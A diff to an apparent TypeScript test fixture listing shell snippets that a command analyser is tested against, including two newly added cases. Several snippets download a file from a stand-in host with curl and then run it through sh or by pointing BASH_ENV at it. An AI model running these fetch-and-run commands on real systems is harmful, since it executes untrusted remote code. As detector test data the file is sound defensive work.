@@ -17,6 +17,8 @@ const UNITS: ReadonlyArray<[name: string, unit: string]> = [
   ['set bundles', 'set -eo -o -a +a -o allexport '],
   ['exports and assignments', 'curl -o /tmp/e https://x.example/i\nexport PATH=: BASH_ENV\nprintf -v BASH_ENV %s /tmp/e\n: ${BASH_ENV:=/tmp/e}\n'],
   ['cds each followed by a relative path', 'cd /tmp/x/y\nsh ../i*\n'],
+  ['cds to directories the text does not spell, each followed by paths that climb', 'cd "$d"\nsh ../../a/b/c/d/e/f/g/h/i ../x/i\npopd\n'],
+  ['relative paths saved with directories, then long absolute paths run', 'curl -o a/b/i https://x.example/i\nsh /a/b/c/d/e/f/g/h/i/j/k/l\n'],
   ['git alias sections', '[alias]\n\tget = clone  \n  '],
   ['git aliases of every kind', "git -c ALIAS.c.x=$'clone' c.x r GIT_CONFIG_KEY_1=alias.g GIT_CONFIG_VALUE_1='!git clone' "],
 ];
